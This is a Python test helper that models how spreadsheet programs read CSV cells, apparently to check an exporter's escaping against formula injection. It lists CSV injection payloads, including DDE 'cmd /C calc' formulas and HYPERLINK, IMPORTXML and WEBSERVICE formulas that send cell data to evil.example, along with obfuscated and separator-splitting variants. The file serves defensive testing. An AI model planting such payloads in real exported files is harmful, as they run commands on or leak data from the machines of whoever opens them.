"""What a spreadsheet program makes of a CSV file, with the separator it expects; written apart from our escaping."""

import csv
import io
import re
import unicodedata

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+thespanishinquisition(cmd|' /C calc'!A",
    "-2+3+cmd|' /C calc'!E1",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error: click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A2:E2),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    "\x0b=1+1",
    "\x01=1+1",
    "\x7f=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u3000\uff1d1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\tplain",
    "-",
    "-5",
    "+5V",
)
SPLITTING = (
    "10k;=1+1",
    '10k;"=1+1;"',
    "10k\t=1+1",
    "10k\n=cmd|' /C calc'!A0",
    "10k\r\n  -1+1",
    "a;;@SUM(1)",
    ";\u200b\uff1d1",
)
HARMLESS = ("", "LMK107BJ475KA-T", "R1, R2", "a=b", "1/4 W @ 70 °C", "'=1+1", "x + y", "10k; 20k", "two\nlines", '"=1"')


def is_formula(cell: str) -> bool:
    """Whether a program takes a cell for a formula, as the most eager of them would; a number is a number."""
    if NUMBER.fullmatch(cell):
        return False
    while cell and (unicodedata.category(cell[0]) in {"Cc", "Cf", "Zs", "Zl", "Zp"} or cell[0].isspace()):
        cell = cell[1:]
    return cell[:1] in SIGNS and cell != ""


def formulas(content: str) -> list[str]:
    """The cells of a file that a program takes for formulas, whatever separator it expects."""
    found = []
    for separator in ",;\t":
        rows = csv.reader(io.StringIO(content, newline=""), delimiter=separator)
        found += [cell for row in rows for cell in row if is_formula(cell)]
    return found


def table(content: str) -> list[dict[str, str]]:
    """The rows of a file by name of column; the first line names them."""
    return list(csv.DictReader(io.StringIO(content, newline="")))
